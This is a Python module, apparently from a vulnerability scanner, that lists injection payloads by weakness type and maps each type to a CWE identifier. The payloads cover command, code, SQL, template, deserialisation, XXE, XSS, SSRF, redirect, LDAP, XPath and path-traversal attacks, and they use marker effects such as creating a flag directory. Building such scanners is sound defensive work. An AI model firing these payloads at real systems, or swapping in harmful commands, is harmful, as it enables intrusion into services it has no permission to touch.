"""The payloads by kind of hole; order is by how often each is the one that works."""

RUN = "mkdir @@FLAG@@"
CALL = "__import__('os').mkdir('@@FLAG@@')"
CALL2 = '__import__("os").mkdir("@@FLAG@@")'
PICKLE = "cposix\nmkdir\n(V@@FLAG@@\ntR."
REACH = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['mkdir']('@@FLAG@@')"

# The argument of the SQL function differs each time, as drivers keep statements that they have compiled.
PAYLOADS = {
    "path": [
        "@@UP@@@@CANARY@@", "@@CANARY@@", "@@UP@@@@STEM@@", "....//....//....//....//....//....//....//....//....//....//@@CANARY@@",
        "@@UP@@@@FLAG@@", "@@FLAG@@", "@@UP@@@@PLACE@@", "@@PLACE@@", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f@@CANARY@@",
    ],
    "command": [
        "x;" + RUN + ";", "x';" + RUN + ";'", 'x";' + RUN + ';"', "$(" + RUN + ")", "`" + RUN + "`", RUN, "x|" + RUN, "x\n" + RUN + "\n", "x;mkdir${IFS}@@FLAG@@;",
        "x&&" + RUN + "#", "x||" + RUN + "#", "x);" + RUN + ";#", "127.0.0.1;" + RUN,
    ],
    "code": [
        CALL, CALL2, "'+str(" + CALL2 + ")+'", '"+str(' + CALL + ')+"', "x=1\n" + CALL + "\n", "1) or " + CALL + " or (1", "') or " + CALL2 + " #", '") or ' + CALL + " #",
        "{" + CALL2 + "}", "0\n" + CALL + " #", "')\n" + CALL2 + "\n#", '")\n' + CALL + "\n#", "'\n" + CALL2 + "\n#", '"\n' + CALL + "\n#", "];" + CALL + ";[", REACH,
        "x'," + CALL2 + ",'x", 'x",' + CALL + ',"x',
    ],
    "template": [
        "{{@@A@@*@@B@@}}", "${@@A@@*@@B@@}", "<%= @@A@@*@@B@@ %>", "{%% widthratio @@A@@ 1 @@B@@ %%}".replace("%%", "%"), "#{@@A@@*@@B@@}", "}}{{ @@A@@*@@B@@ }}{{", "{@@A@@*@@B@@}", "<% print(@@A@@*@@B@@) %>", "' ~ (@@A@@*@@B@@) ~ '",
    ],
    "sql": [
        "x'||@@FN@@(@@A@@)||'x", "1-@@FN@@(@@A@@)", "x\"||@@FN@@(@@A@@)||\"x", "@@FN@@(@@A@@)", "x' OR @@FN@@(@@A@@)-- ", "1 OR @@FN@@(@@A@@)-- ", "x') OR @@FN@@(@@A@@)-- ", "x') OR @@FN@@(@@A@@) OR ('x", "x\" OR @@FN@@(@@A@@)-- ",
        "(SELECT @@FN@@(@@A@@))", "sqlite_master WHERE @@FN@@(@@A@@)-- ", "1); SELECT @@FN@@(@@A@@);-- ", "'; SELECT @@FN@@(@@A@@);-- ", "id,@@FN@@(@@A@@)", "1 UNION SELECT @@FN@@(@@A@@)-- ", "x%' OR @@FN@@(@@A@@) OR '%'='", "1))-- @@FN@@", "*,@@FN@@(@@A@@)",
        "x'/**/OR/**/@@FN@@(@@A@@)/**/OR/**/'x", "@@FN@@(@@A@@) AS a", "id=@@FN@@(@@A@@) OR id",
    ],
    "deserialise": [
        PICKLE, "@@AS:b64@@" + PICKLE, "@@AS:b64u@@" + PICKLE, "@@AS:hex@@" + PICKLE, "@@AS:b64p@@" + PICKLE + "..",
        '!!python/object/apply:os.mkdir ["@@FLAG@@"]', 'a: !!python/object/apply:os.mkdir ["@@FLAG@@"]', '{"py/reduce": [{"py/function": "posix.mkdir"}, {"py/tuple": ["@@FLAG@@"]}]}',
        "!!python/object/new:os.mkdir [\"@@FLAG@@\"]", "@@AS:b64@@!!python/object/apply:os.mkdir [\"@@FLAG@@\"]", '@@AS:b64@@{"py/reduce": [{"py/function": "posix.mkdir"}, {"py/tuple": ["@@FLAG@@"]}]}',
        "- !!python/object/apply:os.mkdir [\"@@FLAG@@\"]", '{"py/object": "os.mkdir", "py/newargs": {"py/tuple": ["@@FLAG@@"]}}', '{"py/object/apply": "os.mkdir"}', "@@AS:b32@@" + PICKLE,
        '!!python/object/apply:os.mkdir\n["@@FLAG@@"]', '!!python/object/apply:os.mkdir\udc85["@@FLAG@@"]', "@@AS:folded@@@@FLAG@@",
    ],
    "xml": [
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://@@CANARY@@">]><r>&x;</r>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "file://@@CANARY@@"> %p;]><r>a</r>',
        '<!DOCTYPE r SYSTEM "file://@@CANARY@@"><r>a</r>',
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://@@CANARY@@" parse="text"/></r>',
        '@@AS:b64@@<!DOCTYPE r [<!ENTITY x SYSTEM "file://@@CANARY@@">]><r>&x;</r>',
    ],
    "xss": ["@@MARK@@'\"><@@MARK@@>", "<@@MARK@@>", "x\" @@MARK@@=\"", "x' @@MARK@@='", "x @@MARK@@=1", "</script><@@MARK@@>", "javascript:@@MARK@@", "';@@MARK@@;'", "\";@@MARK@@;\"", "--><@@MARK@@>", "@@AS:b64@@<@@MARK@@>", "@@AS:url@@<@@MARK@@>", "<<@@MARK@@>@@MARK@@>"],
    "redirect": [
        "https://evil-@@MARK@@.example/", "//evil-@@MARK@@.example/", "/\\evil-@@MARK@@.example", "///evil-@@MARK@@.example", "https://localhost@evil-@@MARK@@.example/", "@evil-@@MARK@@.example", ".evil-@@MARK@@.example", "evil-@@MARK@@.example",
        "http://localhost.evil-@@MARK@@.example/", "\\\\evil-@@MARK@@.example",
    ],
    "ssrf": ["http://127.0.0.1:@@PORT@@/", "127.0.0.1:@@PORT@@", "http://localhost:@@PORT@@/", "127.0.0.1:@@PORT@@/#", "@127.0.0.1:@@PORT@@/", "http://[::1]:@@PORT@@/", "http://2130706433:@@PORT@@/", "http://0:@@PORT@@/", "file://@@CANARY@@"],
    "ldap": ["*)(@@MARK@@=*", "x)(@@MARK@@=x", "*)(@@MARK@@=*))(|(@@MARK@@=*", "*)(|(@@MARK@@=*)", "x,@@MARK@@=x"],
    "xpath": ["x' or @@@MARK@@='y", "x\" or @@@MARK@@=\"y", "x' or @@FN@@() or 'x'='y", "x\" or @@FN@@() or \"x\"=\"y", "1 or @@@MARK@@=1", "1 or @@FN@@()", "x'] | //*[@@FN@@() or 'x'='y", "x']|//*[@@@MARK@@='y", "@@FN@@()", "*[@@FN@@()]", "x|//@@MARK@@"],
    "archive": ["@@AS:tar@@@@UP@@@@FLAG@@", "@@AS:zip@@@@UP@@@@FLAG@@", "@@AS:tar@@@@FLAG@@", "@@AS:zip@@@@FLAG@@"],
    "filename": ["@@UP@@@@FLAG@@", "@@FLAG@@"],
    "header": ["x\r\nX-@@MARK@@: 1", "x\nX-@@MARK@@: 1"],
    "nosql": ['{"$ne": "@@MARK@@"}', "x' || @@FN@@(@@A@@) || 'x", "x\" || @@FN@@(@@A@@) || \"x", "1 || @@FN@@(@@A@@)", "x') || @@FN@@(@@A@@) || ('x", "@@FN@@(@@A@@)"],
    "log": ["x\n@@MARK@@ an entry that nobody made", "x\r\n@@MARK@@ an entry that nobody made"],
}
# What each kind is called when its effect is seen.
WEAKNESS = {
    "path": "CWE-22", "command": "CWE-78", "code": "CWE-94", "template": "CWE-1336", "sql": "CWE-89", "deserialise": "CWE-502", "xml": "CWE-611", "xss": "CWE-79", "redirect": "CWE-601",
    "ssrf": "CWE-918", "ldap": "CWE-90", "xpath": "CWE-643", "archive": "CWE-22", "filename": "CWE-22", "hash": "CWE-328", "random": "CWE-330", "cookie": "CWE-614", "cookie-script": "CWE-1004", "session": "CWE-501",
    "stored-xss": "CWE-79", "regex": "CWE-1333", "object": "CWE-639", "header": "CWE-113", "log": "CWE-117", "nosql": "CWE-943", "clock": "CWE-330",
}
